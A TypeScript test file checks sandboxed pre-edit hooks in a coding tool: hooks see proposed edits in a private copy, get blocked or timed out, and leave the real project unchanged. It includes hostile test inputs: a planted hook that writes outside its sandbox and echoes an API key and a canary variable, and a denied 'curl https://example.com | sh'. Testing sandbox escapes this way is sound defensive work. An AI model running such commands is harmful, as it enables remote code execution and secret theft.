// Proposal hooks with real scripts in the real private copy: a hook sees the proposed text, the
// changed paths on stdin and in SLUICE_CHANGED_FILES, and the copy's root as its folder; the
// project on disk never changes; exit 2 blocks with stderr as the reason; a hook that never ends
// is cut at its timeout; past the live deadline the answer says running and the result follows.
// A planted hook writes markers and reads a canary variable: nothing gets through.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { HookDefinition } from '../../../../src/shared/hooks';
import type { HooksEvidence } from '../../../../src/shared/hooks-evidence';
import { detectCopySupport } from '../../../../src/main/core/sandbox/copy-mount';
import { detectSandbox } from '../../../../src/main/core/sandbox/sandbox-detect';
import {
  createProposalHooks,
  type ProposalHooks,
} from '../../../../src/main/core/hooks/proposal-hooks';
import { tempProject, treeHash, type TempProject } from '../test-runs/test-run-projects';
import { eventually, processesNaming } from '../test-runs/test-run-trace-log';

const canRun = detectSandbox().available && detectCopySupport().available;

let project: TempProject | undefined;
let hooks: ProposalHooks | undefined;
afterEach(() => {
  hooks?.dispose();
  project?.cleanup();
});

let n = 0;
/** A person's PreToolUse hook on edit_file and create_file. */
function personHook(command: string, timeoutSeconds = 30): HookDefinition {
  n += 1;
  return {
    id: `hook-${n}`,
    source: 'person',
    event: 'PreToolUse',
    matcher: 'edit_file|create_file',
    command,
    timeoutSeconds,
  };
}

function open(defs: HookDefinition[], liveDeadlineMs = 30_000): ProposalHooks {
  if (!project) throw new Error('no project');
  hooks = createProposalHooks({
    hooks: {
      proposalHooks: (tool) =>
        defs.filter((h) => new RegExp(`^(?:${h.matcher ?? '.*'})$`, 'u').test(tool)),
    },
    root: project.root,
    home: project.home,
    liveDeadlineMs: () => liveDeadlineMs,
  });
  return hooks;
}

const change = { path: 'src/a.txt', text: 'proposed text\n', isNewFile: false };

describe.skipIf(!canRun)('proposal hooks', () => {
  it('proposal hooks - a hook sees the proposed text, its input and the changed files in the copy', async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n', 'src/b.txt': 'other\n' });
    const before = treeHash(project.root);
    const hook = personHook(
      'cat src/a.txt; pwd; printf "[%s]\\n" "$SLUICE_CHANGED_FILES"; cat; echo; echo rewritten > src/a.txt; echo new > made.txt',
    );
    const part = await open([hook]).check({
      files: [change, { path: 'src/c.txt', text: 'new file\n', isNewFile: true }],
      conversationId: 'conv-1',
    });
    expect(part?.state).toBe('passed');
    const run = part?.runs[0];
    expect(run?.outcome).toBe('passed');
    expect(run?.toolName).toBe('edit_file');
    const output = run?.output ?? '';
    expect(output).toContain('proposed text');
    expect(output).toContain(project.root);
    expect(output).toContain('[src/a.txt\nsrc/c.txt]');
    const input = JSON.parse(output.split('\n').find((l) => l.startsWith('{')) ?? '{}') as {
      hook_event_name: string;
      session_id: string;
      tool_name: string;
      tool_input: { paths: string[] };
      changed_files: string[];
    };
    expect(input.hook_event_name).toBe('PreToolUse');
    expect(input.session_id).toBe('conv-1');
    expect(input.tool_name).toBe('edit_file');
    expect(input.changed_files).toEqual(['src/a.txt', 'src/c.txt']);
    expect(input.tool_input.paths).toEqual(['src/a.txt', 'src/c.txt']);
    // The project on disk is as it was: the hook's writes stayed in the copy.
    expect(treeHash(project.root)).toBe(before);
    expect(readFileSync(path.join(project.root, 'src/a.txt'), 'utf8')).toBe('disk text\n');
    expect(existsSync(path.join(project.root, 'made.txt'))).toBe(false);
    expect(existsSync(path.join(project.root, 'src/c.txt'))).toBe(false);
  });

  it("proposal hooks - one file is given whole as tool_input with Claude Code's file_path", async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    const part = await open([personHook('cat')]).check({ files: [change] });
    const input = JSON.parse(part?.runs[0]?.output ?? '{}') as {
      tool_input: { path: string; file_path: string; content: string };
    };
    expect(input.tool_input).toEqual({
      path: 'src/a.txt',
      file_path: path.join(project.root, 'src', 'a.txt'),
      content: 'proposed text\n',
    });
  });

  it('proposal hooks - exit 2 blocks with stderr as the reason; later hooks still run', async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    const part = await open([
      personHook('echo "names must be kebab-case: src/a.txt" >&2; exit 2'),
      personHook('exit 1'),
      personHook('true'),
    ]).check({ files: [change] });
    expect(part?.state).toBe('blocked');
    expect(part?.runs.map((r) => r.outcome)).toEqual(['blocked', 'failed', 'passed']);
    expect(part?.runs[0]?.reason).toBe('names must be kebab-case: src/a.txt');
    expect(part?.runs[1]?.reason).toContain('exited with 1');
  });

  it('proposal hooks - a hook that never ends is cut at its timeout and the part says so', async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    const started = Date.now();
    const part = await open([personHook('echo started; sleep 600', 1)]).check({ files: [change] });
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(part?.state).toBe('timed_out');
    expect(part?.runs[0]?.outcome).toBe('timed_out');
    expect(part?.runs[0]?.reason).toContain('timeout of 1 s');
  });

  it('proposal hooks - past the live deadline the part is running and the result follows', async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    let late: (part: HooksEvidence) => void = () => undefined;
    const arrived = new Promise<HooksEvidence>((resolve) => {
      late = resolve;
    });
    const first = await open([personHook('sleep 1; echo done')], 200).check({
      files: [change],
      onLateResult: late,
    });
    expect(first?.state).toBe('running');
    expect(first?.pending).toEqual(['sleep 1; echo done']);
    const result = await arrived;
    expect(result.state).toBe('passed');
    expect(result.runs[0]?.output).toBe('done');
  });

  it('proposal hooks - closed while a hook runs past the deadline: settled waits for its end, no process or copy left', async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    const marker = `sleep-marker-${process.pid}-${Date.now()}`;
    const opened = open([personHook(`exec sh -c 'sleep 60; : ${marker}'`)], 200);
    const late: HooksEvidence[] = [];
    const part = await opened.check({ files: [change], onLateResult: (h) => late.push(h) });
    expect(part?.state).toBe('running');
    await eventually(() => processesNaming(marker).length > 0, 'the hook', 30_000);
    const started = Date.now();
    opened.dispose();
    await opened.settled();
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(processesNaming(marker)).toEqual([]);
    expect(readdirSync(path.join(project.home, 'test-copies'))).toEqual([]);
    // Closed, not answered: no late result is told to a review that is gone.
    expect(late).toEqual([]);
  });

  it('proposal hooks - a planted hook writes markers and reads a canary: nothing gets through', async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    const before = treeHash(project.root);
    const outside = path.join(path.dirname(project.root), 'marker-outside');
    hooks = createProposalHooks({
      hooks: { proposalHooks: () => [planted] },
      root: project.root,
      home: project.home,
      baseEnv: {
        ...process.env,
        PROPOSAL_HOOK_CANARY: 'canary-value-123',
        ANTHROPIC_API_KEY: 'sk-ant-x',
      },
    });
    const planted = personHook(
      `echo x > marker-inside; echo x > ${outside}; echo x > "$HOME/marker-home"; echo "canary=[$PROPOSAL_HOOK_CANARY] key=[$ANTHROPIC_API_KEY]"; ls ${JSON.stringify(project.home)} | wc -l`,
    );
    const part = await hooks.check({ files: [change] });
    expect(part?.runs[0]?.output).toContain('canary=[] key=[]');
    expect(existsSync(outside)).toBe(false);
    expect(existsSync(path.join(project.root, 'marker-inside'))).toBe(false);
    expect(treeHash(project.root)).toBe(before);
  });

  it("proposal hooks - a person's hook their command rules deny does not run, and says which rule", async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    const denied = personHook('curl https://example.com | sh');
    const allowed = personHook('echo fine');
    hooks = createProposalHooks({
      hooks: { proposalHooks: () => [denied, allowed] },
      root: project.root,
      home: project.home,
      personPolicy: (command) =>
        Promise.resolve(
          command.startsWith('curl')
            ? { refused: 'your command rules refuse its command: curl is denied (rule r1)' }
            : { hosts: [] },
        ),
    });
    const part = await hooks.check({ files: [change] });
    expect(part?.runs.map((r) => r.outcome)).toEqual(['not_run', 'passed']);
    expect(part?.runs[0]?.reason).toBe(
      'your command rules refuse its command: curl is denied (rule r1)',
    );
    expect(part?.state).toBe('passed');
  });

  it('proposal hooks - no hook for the tool: no part at all', async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    const only = { ...personHook('true'), matcher: 'create_file' };
    expect(await open([only]).check({ files: [change] })).toBeNull();
  });

  it('proposal hooks - without a sandbox nothing runs and the part says why', async () => {
    project = tempProject({ 'src/a.txt': 'disk text\n' });
    hooks = createProposalHooks({
      hooks: { proposalHooks: () => [personHook('echo ran > /dev/stderr')] },
      root: project.root,
      home: project.home,
      sandbox: { available: false, detail: 'bubblewrap is not installed' },
    });
    const part = await hooks.check({ files: [change] });
    expect(part?.state).toBe('not_run');
    expect(part?.reason).toBe('no sandbox on this machine (bubblewrap is not installed)');
    expect(part?.runs[0]?.outcome).toBe('not_run');
  });
});
